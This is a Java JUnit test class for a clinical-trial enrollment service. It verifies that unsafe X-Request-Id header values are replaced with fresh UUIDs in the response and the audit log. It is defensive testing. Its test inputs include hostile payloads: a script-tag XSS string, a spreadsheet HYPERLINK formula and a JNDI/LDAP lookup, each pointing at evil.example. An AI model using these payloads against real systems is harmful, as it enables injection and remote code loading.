package org.celltrial.enrollment;

import static org.celltrial.enrollment.EnrollmentRequests.BASE;
import static org.celltrial.enrollment.EnrollmentRequests.as;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static io.restassured.RestAssured.given;

import java.util.UUID;

import org.celltrial.common.http.Headers;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;

/**
 * The service settles X-Request-Id itself (common's RequestIdFilter), whatever the gateway did: a safe ID is kept,
 * anything else is replaced by a new UUID, in the answer and in the audit trail, and the request still succeeds.
 */
@QuarkusTest
@TestProfile(EnrollmentTestProfile.class)
class RequestIdHeaderTest {

    @BeforeEach
    void sites() {
        EnrollmentRequests.ensureSite("SITE-01");
    }

    @Test
    void aSafeIdIsKeptInTheAnswerAndTheAuditTrail() {
        String given = "trace:" + UUID.randomUUID();
        String id = as("inv-site01").header(Headers.REQUEST_ID, given)
                .body(EnrollmentRequests.referencePatient("SITE-01")).post(BASE + "/patients")
                .then().statusCode(201).header(Headers.REQUEST_ID, given)
                .extract().path("id");

        assertEquals(given, EnrollmentRequests.string(
                "SELECT request_id FROM audit_log WHERE entity_id = ? AND action = 'CREATE'", id));
    }

    @ParameterizedTest
    @ValueSource(strings = { "<script>alert(1)</script>", "=HYPERLINK(\"https://evil.example\",\"x\")",
            "trace 42 ${jndi:ldap://evil.example/a}",
            "x123456789x123456789x123456789x123456789x123456789x123456789x123456789x123456789x123456789x1234567890" })
    void anUnsafeIdIsReplacedInTheAnswerAndTheAuditTrailAndTheRequestSucceeds(String malicious) {
        var answer = as("inv-site01").header(Headers.REQUEST_ID, malicious)
                .body(EnrollmentRequests.referencePatient("SITE-01")).post(BASE + "/patients")
                .then().statusCode(201).extract();
        String returned = answer.header(Headers.REQUEST_ID);
        String id = answer.path("id");

        assertNotEquals(malicious, returned);
        assertEquals(returned, UUID.fromString(returned).toString(), "a new UUID: " + returned);
        assertEquals(returned, EnrollmentRequests.string(
                "SELECT request_id FROM audit_log WHERE entity_id = ? AND action = 'CREATE'", id));
        assertEquals(0, EnrollmentRequests.count("SELECT count(*) FROM audit_log WHERE request_id = ?", malicious));
    }

    @Test
    void aRefusedRequestAndOneWithoutAnIdGetOneToo() {
        String returned = given().header(Headers.REQUEST_ID, "bad id").get(BASE + "/me")
                .then().statusCode(401).extract().header(Headers.REQUEST_ID);
        assertEquals(returned, UUID.fromString(returned).toString());

        String fresh = as("inv-site01").get(BASE + "/me").then().statusCode(200).extract().header(Headers.REQUEST_ID);
        assertEquals(fresh, UUID.fromString(fresh).toString());
        as("inv-site01").header(Headers.REQUEST_ID, "ok-1").get(BASE + "/me")
                .then().statusCode(200).header(Headers.REQUEST_ID, equalTo("ok-1"));
    }
}
